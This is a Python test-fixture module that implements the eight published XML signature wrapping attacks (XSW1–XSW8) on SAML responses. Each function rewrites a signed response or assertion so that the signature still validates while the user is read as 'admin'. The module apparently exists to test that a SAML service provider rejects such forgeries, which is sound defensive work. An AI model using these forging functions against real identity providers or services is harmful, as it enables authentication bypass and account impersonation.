"""Signature wrapping: the eight known ways to keep a signature valid and have something else read.

Each takes a signed response and gives one in which somebody else is the user. Source: J. Somorovsky and others, "On
Breaking SAML: Be Whoever You Want to Be", USENIX Security 2012.
"""

import copy
from collections.abc import Callable

from lxml import etree  # type: ignore[import-untyped]  # ships no types

from tests.workers.auth.federation.saml.idp import DS, NS, SAML, SAMLP, Element

EVIL = "admin"


def evil(element: Element, id: str = "evil") -> Element:
    """Return a copy that names another user, under another ID, without a signature of its own."""
    made = bare(element)
    made.set("ID", id)
    for each in made.iter(f"{{{SAML}}}NameID"):
        each.text = EVIL
    for each in made.iter(f"{{{SAML}}}Assertion"):
        if each is not made:
            each.set("ID", f"{id}-inner")
    return made


def bare(element: Element) -> Element:
    """Return a copy without its signatures."""
    made = copy.deepcopy(element)
    for each in made.findall(".//ds:Signature", NS):
        each.getparent().remove(each)
    return made


def _assertion(response: Element) -> Element:
    found = response.find("saml:Assertion", NS)
    assert found is not None
    return found


def _signature(element: Element) -> Element:
    found = element.find("ds:Signature", NS)
    assert found is not None
    return found


def xsw1(response: Element) -> Element:
    """The response is changed; the true one stands inside its signature."""
    root, signature = evil(response), copy.deepcopy(_signature(response))
    signature.append(bare(response))
    root.insert(1, signature)
    return root


def xsw2(response: Element) -> Element:
    """The response is changed; the true one stands before the signature, which so is a detached one."""
    root = evil(response)
    root.insert(1, bare(response))
    root.insert(2, copy.deepcopy(_signature(response)))
    return root


def xsw3(response: Element) -> Element:
    """Another assertion stands before the true one."""
    root = copy.deepcopy(response)
    true = _assertion(root)
    true.addprevious(evil(true))
    return root


def xsw4(response: Element) -> Element:
    """Another assertion holds the true one."""
    root = copy.deepcopy(response)
    true = _assertion(root)
    made = evil(true)
    root.replace(true, made)
    made.append(true)
    return root


def xsw5(response: Element) -> Element:
    """The assertion is changed and keeps its signature; the true one stands at the end."""
    root = copy.deepcopy(response)
    true = _assertion(root)
    made = evil(true)
    made.insert(1, copy.deepcopy(_signature(true)))
    root.replace(true, made)
    root.append(bare(true))
    return root


def xsw6(response: Element) -> Element:
    """The assertion is changed and keeps its signature, which holds the true one."""
    root = copy.deepcopy(response)
    true = _assertion(root)
    made, signature = evil(true), copy.deepcopy(_signature(true))
    signature.append(bare(true))
    made.insert(1, signature)
    root.replace(true, made)
    return root


def xsw7(response: Element) -> Element:
    """Extensions, which may hold anything, hold another assertion under the same ID."""
    root = copy.deepcopy(response)
    true = _assertion(root)
    extensions = etree.Element(f"{{{SAMLP}}}Extensions")
    extensions.append(evil(true, true.get("ID")))
    true.addprevious(extensions)
    return root


def xsw8(response: Element) -> Element:
    """The signature has an object, which may hold anything: the true assertion, while another one is read."""
    root = copy.deepcopy(response)
    true = _assertion(root)
    made, signature = evil(true), copy.deepcopy(_signature(true))
    etree.SubElement(signature, f"{{{DS}}}Object").append(bare(true))
    made.insert(1, signature)
    root.replace(true, made)
    return root


OF_RESPONSES: tuple[Callable[[Element], Element], ...] = (xsw1, xsw2)
OF_ASSERTIONS: tuple[Callable[[Element], Element], ...] = (xsw3, xsw4, xsw5, xsw6, xsw7, xsw8)
